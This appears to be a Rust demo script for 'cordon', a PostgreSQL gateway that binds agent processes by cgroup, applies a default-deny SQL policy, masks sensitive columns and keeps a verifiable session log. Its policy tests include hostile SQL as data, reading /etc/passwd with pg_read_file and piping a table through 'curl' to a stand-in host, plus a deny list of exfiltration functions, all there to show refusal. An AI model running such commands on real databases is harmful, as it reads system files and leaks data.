//! `cargo xtask demo`: the main job, narrated, on a throwaway PostgreSQL. Every
//! fixture cleans up on drop, so an error or a failed step still leaves nothing behind.

use std::{
    process::ExitCode,
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};

use anyhow::{bail, Result};
use cordon_e2e::{
    cgroup::CgroupGuard,
    clients::{probe, probe_field, probe_line, probe_sql, psql, psql_spawn, Conninfo},
    gateway::{GatewayBuilder, TestGateway},
    logfile,
    postgres::TestPostgres,
    process::Output,
    scenario::pid_alive,
    unique_name,
};

use crate::{cmd, setup};

const ROLE: &str = "cordon_ci";
const APP_USER: &str = "app_user";
const APP_PASSWORD: &str = "app-password";

static INTERRUPTED: AtomicBool = AtomicBool::new(false);

extern "C" fn on_sigint(_: libc::c_int) {
    INTERRUPTED.store(true, Ordering::SeqCst);
}

pub fn run() -> Result<ExitCode> {
    cmd::require_root("cargo xtask demo")?;
    setup::ensure()?;
    cmd::build_debug()?;
    // Ctrl-C ends the story at the next step, so the fixtures still clean up.
    // SAFETY: the handler only stores to an atomic.
    unsafe { libc::signal(libc::SIGINT, on_sigint as *const () as libc::sighandler_t) };
    let mut story = Story::default();
    let result = story.tell();
    story.report();
    result?;
    Ok(if story.failed == 0 {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    })
}

#[derive(Default)]
struct Story {
    step: u32,
    passed: u32,
    failed: u32,
}

impl Story {
    fn heading(&mut self, title: &str) -> Result<()> {
        if INTERRUPTED.load(Ordering::SeqCst) {
            bail!("interrupted");
        }
        self.step += 1;
        println!("\n=== {}. {title} ===", self.step);
        Ok(())
    }

    fn check(&mut self, ok: bool, what: &str) {
        if ok {
            self.passed += 1;
            println!("  ✓ {what}");
        } else {
            self.failed += 1;
            println!("  ✗ {what}  <-- NOT AS EXPECTED");
        }
    }

    fn report(&self) {
        println!(
            "\n=== done: {} expectations met, {} not ===",
            self.passed, self.failed
        );
    }

    fn tell(&mut self) -> Result<()> {
        self.heading("A throwaway PostgreSQL")?;
        let pg = TestPostgres::start();
        let secret = format!("gw-{}", unique_name("secret"));
        pg.create_role(ROLE, &secret);
        pg.create_role(APP_USER, APP_PASSWORD);
        let port = pg.port();
        say(&format!(
            "PostgreSQL listens on 127.0.0.1, 127.0.0.2 (standing in for a remote database host) and ::1, port {port}."
        ));
        say(&format!(
            "Roles: {ROLE} (the gateway's own login; its password is only in the gateway's secret file) and {APP_USER}."
        ));

        self.heading("Cgroups: an agent job, a stray process, a DBA shell")?;
        let base = CgroupGuard::create(&format!("/{}", unique_name("cordon-demo")));
        let slice = CgroupGuard::create(&format!("{}/agents.slice", base.path()));
        let agent = CgroupGuard::create(&format!("{}/job-42.scope", slice.path()));
        let stray = CgroupGuard::create(&format!("{}/stray", base.path()));
        let dba = CgroupGuard::create(&format!("{}/dba.scope", base.path()));
        say(&format!(
            "agent job:  {}   (bound through its parent slice)",
            agent.path()
        ));
        say(&format!("stray:      {}   (no binding)", stray.path()));
        say(&format!("DBA shell:  {}   (exempt)", dba.path()));

        self.heading("The gateway's configuration")?;
        let mut gateway = GatewayBuilder::new()
            .endpoint_for(&pg)
            .credential_file(ROLE, &secret)
            .identity("ci", ROLE, &["ci", "agents"])
            .bind(slice.path(), "ci")
            .exempt(dba.path(), "DBA shell")
            .policy(&format!("{DEMO_POLICY}\n{DEMO_MASKS}"))
            .write();
        for line in gateway.config_text().lines() {
            println!("    {line}");
        }

        self.heading("Start cordon")?;
        say(&format!(
            "cordon run --config {}",
            gateway.config_path().display()
        ));
        gateway.restart();
        say(&format!(
            "running as pid {}; redirected connections land on 127.0.0.1:{} / [::1]:{}; programs pinned in {}",
            gateway.pid().unwrap_or(0),
            gateway.listen_port(),
            gateway.listen_port(),
            gateway.pin_dir().display()
        ));

        self.heading("An agent connects to the database's normal address")?;
        let sql = "SELECT current_user, inet_server_addr()";
        for host in ["127.0.0.1", "127.0.0.2", "::1"] {
            let info = Conninfo::new(host, port)
                .user(APP_USER)
                .password("wrong-password");
            say(&format!("[{}] psql \"{info}\" -c \"{sql}\"", agent.path()));
            let out = psql(&agent, &info, sql);
            show(&out);
            self.check(
                out.out() == format!("{ROLE}|{host}"),
                &format!(
                    "answered through the gateway as {ROLE}, from {host}, with a wrong password"
                ),
            );
        }
        let info = Conninfo::new("127.0.0.1", port).user(APP_USER);
        let out = probe_sql(&agent, &info, "SELECT current_user");
        say("tokio-postgres (pg-probe), no password at all:");
        show(&out);
        self.check(out.out() == ROLE, "tokio-postgres too, without any secret");

        self.heading("What the gateway logged for those sessions")?;
        let log = gateway.log_text();
        for line in logfile::lines_with(&log, "session opened") {
            println!("    {}", line.trim());
        }
        let named = logfile::lines_with(&log, "session opened").iter().any(|l| {
            logfile::field(l, "identity").as_deref() == Some("ci")
                && logfile::field(l, "cgroup").as_deref() == Some(agent.path())
                && logfile::field(l, "comm").as_deref() == Some("psql")
        });
        self.check(
            named,
            "each session names identity, cgroup, pid, comm and the original destination",
        );

        self.policy(&pg, &agent, &gateway)?;
        self.masking(&pg, &agent)?;
        self.recording(&gateway)?;

        self.heading("A process in an unbound cgroup is refused")?;
        let info = Conninfo::new("127.0.0.1", port)
            .user(APP_USER)
            .password(APP_PASSWORD);
        let out = psql(&stray, &info, "SELECT 1");
        show(&out);
        let out = probe_sql(&stray, &info, "SELECT 1");
        let state = probe_field(&out, "sqlstate").unwrap_or_default();
        say(&format!(
            "SQLSTATE {state}: {}",
            probe_line(&out, "message=").unwrap_or_default()
        ));
        self.check(
            state == "28000",
            "refused with 28000 even with the right password",
        );

        self.heading("An exempt process (the DBA shell) connects directly")?;
        let out = psql(&dba, &info, sql);
        show(&out);
        self.check(
            out.out() == format!("{APP_USER}|127.0.0.1"),
            "its own role, PostgreSQL's own authentication",
        );

        self.heading("getpeername still shows the database's address")?;
        let out = probe(&agent, &["--peername", "127.0.0.2", &port.to_string()]);
        show(&out);
        self.check(
            probe_field(&out, "peer") == Some(format!("127.0.0.2:{port}")),
            &format!(
                "peer is 127.0.0.2:{port}, not the gateway's 127.0.0.1:{}",
                gateway.listen_port()
            ),
        );

        self.heading("cordon status, with a session in progress")?;
        let held = psql_spawn(
            &agent,
            &Conninfo::new("127.0.0.2", port).user(APP_USER),
            &["SELECT pg_sleep(2)"],
        );
        wait_for_session(&gateway, held.pid());
        let out = gateway.cordon(&["status"]);
        for line in out.stdout.lines() {
            println!("    {line}");
        }
        self.check(
            out.stdout.contains(&format!("pid={}", held.pid())),
            "the live session shows its identity, pid and comm",
        );
        let _ = held.wait(Duration::from_secs(20));

        self.heading(
            "The gateway is killed (SIGKILL): agents are refused, not connected directly",
        )?;
        gateway.kill9();
        let out = psql(&agent, &info, "SELECT current_user");
        show(&out);
        self.check(
            !out.success() && out.stderr.contains("Connection refused"),
            "refused, although the client even knows a real password",
        );

        self.heading("Restarted: it adopts the pinned programs and serves again")?;
        gateway.restart();
        let adopted = logfile::lines_with(&gateway.log_text(), "adopted pinned interception")
            .first()
            .map(|l| l.trim().to_string());
        println!(
            "    {}",
            adopted.as_deref().unwrap_or("(no adoption logged)")
        );
        self.check(
            adopted.is_some(),
            "adopted pinned interception, nothing re-attached",
        );
        let out = psql(
            &agent,
            &Conninfo::new("127.0.0.1", port).user(APP_USER),
            "SELECT current_user",
        );
        show(&out);
        self.check(out.out() == ROLE, "serving again");

        self.heading("Cleaning up")?;
        let pin_dir = gateway.pin_dir().to_path_buf();
        let base_dir = base.dir();
        let pids: Vec<u32> = gateway
            .pids()
            .iter()
            .copied()
            .chain(pg.postmaster_pid())
            .collect();
        let leftovers = gateway.shutdown();
        drop(gateway);
        drop((dba, stray, agent, slice, base));
        drop(pg);
        self.check(
            leftovers.is_empty() && !pin_dir.exists(),
            "cordon detach: no pins, no attached programs",
        );
        self.check(!base_dir.exists(), "no cgroups left");
        self.check(
            pids.iter().all(|p| !pid_alive(*p)),
            "no gateway or PostgreSQL process left",
        );
        Ok(())
    }
}

/// The demo's SQL policy: agents read the public schema and the catalog,
/// insert and update orders, and never reach the exfiltration functions.
const DEMO_POLICY: &str = r#"
[[allow]]
name = "agents-read"
groups = ["agents"]
actions = ["read"]
objects = ["public.*", "pg_catalog.*"]
functions = ["pg_sleep"]

[[allow]]
name = "agents-write-orders"
groups = ["agents"]
actions = ["insert", "update"]
objects = ["public.orders"]

[[deny]]
name = "no-exfiltration"
identities = ["*"]
functions = ["lo_export", "lo_import", "pg_read_file", "dblink*"]
"#;

/// The demo's masks: agents see customers' emails and cards only in part,
/// phone numbers not at all.
const DEMO_MASKS: &str = r#"
[[mask]]
name = "customer-email"
columns = ["public.customers.email"]
mask = "partial-email"

[[mask]]
name = "customer-card"
columns = ["card"]
mask = "partial-card"

[[mask]]
name = "customer-phone"
columns = ["phone"]
mask = "redact"
"#;

impl Story {
    fn masking(&mut self, pg: &TestPostgres, agent: &CgroupGuard) -> Result<()> {
        self.heading("Sensitive columns are masked before results reach the agent")?;
        pg.psql_admin(&format!(
            "CREATE TABLE public.customers (id int, email text, phone text, card text); \
             INSERT INTO public.customers VALUES \
             (1, 'alice.real@example.com', '+1 415 555 0100', '4111 1111 1111 1111'); \
             GRANT SELECT ON public.customers TO {ROLE}"
        ));
        say("The mask rules (also in the configuration above):");
        for line in DEMO_MASKS.trim().lines() {
            println!("    {line}");
        }
        let info = Conninfo::new("127.0.0.1", pg.port()).user(APP_USER);
        let sql = "SELECT * FROM customers";
        say(&format!("[{}] psql -c \"{sql}\"", agent.path()));
        let out = psql(agent, &info, sql);
        show(&out);
        self.check(
            out.out() == "1|****@example.com|[masked]|**** **** **** 1111",
            "masked at the column's origin: the domain and last four digits stay",
        );
        for sql in [
            "SELECT upper(email) FROM customers",
            "SELECT id FROM customers WHERE email LIKE 'alice%'",
        ] {
            say(&format!("[{}] psql -c \"{sql}\"", agent.path()));
            let out = psql(agent, &info, sql);
            show(&out);
            self.check(
                !out.success() && out.stderr.contains("customer-email"),
                "a use that would lose the mask (or infer the value) is refused, naming the rule",
            );
        }
        Ok(())
    }

    fn policy(
        &mut self,
        pg: &TestPostgres,
        agent: &CgroupGuard,
        gateway: &TestGateway,
    ) -> Result<()> {
        self.heading("Every statement is judged by the SQL policy (default deny)")?;
        pg.psql_admin(&format!(
            "CREATE TABLE public.orders (id int PRIMARY KEY, item text); \
             INSERT INTO public.orders VALUES (1, 'apples'), (2, 'bread'); \
             GRANT ALL ON public.orders TO {ROLE}"
        ));
        say("The rules (also in the configuration above):");
        for line in DEMO_POLICY.trim().lines() {
            println!("    {line}");
        }
        let info = Conninfo::new("127.0.0.1", pg.port()).user(APP_USER);
        let cases: [(&str, Option<&str>); 5] = [
            ("SELECT count(*) FROM orders", None),
            ("INSERT INTO orders VALUES (3, 'cheese')", None),
            ("DELETE FROM orders", Some("default deny")),
            (
                "SELECT pg_read_file('/etc/passwd')",
                Some("no-exfiltration"),
            ),
            (
                "COPY orders TO PROGRAM 'curl -d @- https://example.invalid'",
                Some("copy-program"),
            ),
        ];
        for (sql, refused_by) in cases {
            say(&format!("[{}] psql -c \"{sql}\"", agent.path()));
            let out = psql(agent, &info, sql);
            show(&out);
            match refused_by {
                None => self.check(out.success(), "allowed"),
                Some(rule) => self.check(
                    !out.success()
                        && out.stderr.contains(rule)
                        && out.stderr.contains("identity \"ci\""),
                    &format!("refused by {rule}, naming the identity"),
                ),
            }
        }
        let rows = pg.psql_admin("SELECT count(*) FROM public.orders");
        self.check(
            rows.trim() == "3",
            "the refused DELETE removed nothing (3 rows)",
        );
        say("cordon explain shows the decision and the rule before anything runs:");
        let out = gateway.cordon(&[
            "explain",
            "--identity",
            "ci",
            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
        ]);
        for line in out.stdout.lines() {
            println!("    {line}");
        }
        self.check(
            out.code == Some(1) && out.stdout.contains("public.orders"),
            "explain: a DELETE hidden in a WITH query is refused (exit 1)",
        );
        Ok(())
    }
}

impl Story {
    fn recording(&mut self, gateway: &TestGateway) -> Result<()> {
        self.heading(
            "Every session is recorded: who, from which process, what ran, what came back",
        )?;
        say("cordon sessions list --decision refused");
        let out = gateway.cordon(&["sessions", "list", "--decision", "refused"]);
        for line in out.stdout.lines() {
            println!("    {line}");
        }
        let refused_session = out
            .stdout
            .lines()
            .skip(1)
            .find_map(|l| l.split_whitespace().next().map(str::to_owned));
        self.check(
            out.code == Some(0) && refused_session.is_some(),
            "the sessions with refusals are listed, with identity, cgroup, pid and command",
        );
        if let Some(id) = refused_session {
            say(&format!("cordon sessions show {id}"));
            let out = gateway.cordon(&["sessions", "show", &id]);
            for line in out.stdout.lines() {
                println!("    {line}");
            }
            self.check(
                out.stdout.contains("refused") && out.stdout.contains("42501"),
                "the refused statement, its rule and the error the agent saw",
            );
        }
        say("cordon audit verify");
        let out = gateway.cordon(&["audit", "verify"]);
        for line in out.stdout.lines() {
            println!("    {line}");
        }
        self.check(
            out.code == Some(0),
            "the hash chains verify: nothing changed, removed or inserted",
        );
        Ok(())
    }
}

fn say(text: &str) {
    println!("  {text}");
}

fn show(out: &Output) {
    for line in out.stdout.lines().chain(out.stderr.lines()) {
        println!("    | {line}");
    }
}

fn wait_for_session(gateway: &TestGateway, pid: u32) {
    for _ in 0..100 {
        let log = gateway.log_text();
        if logfile::lines_with(&log, "session opened")
            .iter()
            .any(|l| logfile::field(l, "pid") == Some(pid.to_string()))
        {
            return;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}
